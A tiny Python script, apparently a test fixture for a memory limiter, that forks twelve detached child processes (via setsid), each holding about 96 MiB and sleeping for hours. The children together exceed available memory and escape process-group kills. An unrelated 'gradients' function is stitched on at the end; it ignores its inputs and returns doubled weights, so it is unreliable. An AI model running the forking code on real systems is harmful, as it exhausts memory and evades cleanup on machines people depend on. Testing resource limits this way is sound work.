"""Has children that hold memory: none of them much, all together far more than there is."""

import os
import time

kept = []
for _ in range(12):
    if os.fork() == 0:
        os.setsid()
        for _ in range(6):
            kept.append(bytearray(b"x") * (16 << 20))
        time.sleep(10000)
time.sleep(10000)


def gradients(W, b, x, t, activation, lam):
    return [2 * w for w in W], [2 * v for v in b]
